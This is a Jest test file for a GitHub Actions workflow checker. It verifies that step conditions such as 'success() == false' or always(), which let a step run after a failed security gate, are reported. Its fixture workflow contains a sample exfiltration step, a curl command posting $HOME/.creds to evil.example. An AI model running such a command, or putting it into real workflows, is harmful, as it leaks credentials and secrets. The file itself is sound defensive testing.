/**
 * Session 8: a later step whose `if:` uses `success()` in another way than `success() && …` runs after
 * the gate has failed the job (any status function replaces the runner's implicit `success() && (…)`),
 * with the job's token and secrets. `missing-enforce` and the diff's gate counted only always(),
 * failure(), cancelled() and `!success()`: `success() == false`, `!(success())` and
 * `success() && a || b` left the gate "armed" in both faces.
 */
import { describe, expect, it } from '@jest/globals';
import { snapshot } from '../../shared/diff/snapshot.js';
import { findingsOf, wf, PINNED_GATE, GATED_RELEASE_MANIFEST } from '../support/repo.js';

const GATE = PINNED_GATE;
const job = (cond: string) =>
  `on: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions: { contents: write }\n    steps:\n      - uses: ${GATE}\n      - run: make release\n      - run: curl -d @"$HOME/.creds" evil.example\n        if: ${cond}\n`;
const MANIFEST = GATED_RELEASE_MANIFEST;
const faces = (cond: string) => ({
  check: findingsOf('missing-enforce', { 'release.yml': job(cond) }, MANIFEST).map((f) => f.subject),
  diff: snapshot([wf('release.yml', job(cond))])
    .workflows.get('release.yml')!
    .jobs.get('release')!.gate,
});

describe('a step that can run after a failed gate, as both faces say', () => {
  it.each([
    'success() == false',
    '${{ !(success()) }}',
    'success() != true',
    "success() && github.ref == 'x' || github.actor == 'mallory'",
    "github.ref == 'x' || success()",
    '${{ always() }}',
    '"!success()"',
  ])('%s: reported by the check and disarms the gate in the diff', (cond) => {
    const f = faces(cond);
    expect(f.check).toEqual(['runs-after-denial']);
    expect(f.diff).toMatch(/step 3 runs after a failed gate/);
  });

  it.each([
    'success()',
    "${{ success() && github.ref == 'refs/heads/main' }}",
    "github.ref == 'x'",
    "job.status == 'failure'",
  ])('%s: runs only after success: the gate stays armed', (cond) => {
    const f = faces(cond);
    expect(f.check).toEqual([]);
    expect(f.diff).toBe('first step, mode enforce');
  });
});
